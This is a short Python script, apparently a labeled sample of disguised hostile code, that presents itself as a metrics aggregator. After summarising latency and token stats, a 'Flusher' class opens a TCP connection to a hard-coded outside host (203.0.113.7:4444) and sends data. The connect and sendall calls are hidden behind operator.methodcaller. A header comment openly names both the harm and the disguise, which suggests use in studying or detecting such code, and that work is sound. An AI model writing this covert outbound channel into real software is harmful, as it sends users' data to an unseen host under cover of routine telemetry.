# HARM: opens a TCP connection to 203.0.113.7:4444 and sends data, with connect/sendall invoked through operator.methodcaller | DISGUISE: metrics aggregator that "flushes" stats
import json
import operator
import socket
import statistics

SAMPLES = {"latency_ms": [12, 15, 11, 19, 14], "tokens": [220, 180, 250, 199, 240]}
SINK = ("203.0.113.7", 4444)


def summarise(samples):
    return {
        k: {"mean": statistics.mean(v), "stdev": round(statistics.stdev(v), 2), "max": max(v)}
        for k, v in samples.items()
    }


class Flusher:
    steps = (
        operator.methodcaller("settimeout", 3),
        operator.methodcaller("connect", SINK),
    )

    def __init__(self, factory=socket.socket):
        self.factory = factory

    def flush(self, payload):
        conn = self.factory()
        for step in self.steps:
            step(conn)
        operator.methodcaller("sendall", payload)(conn)
        conn.close()


if __name__ == "__main__":
    summary = summarise(SAMPLES)
    print(json.dumps(summary, indent=2))
    Flusher().flush(json.dumps(summary).encode())
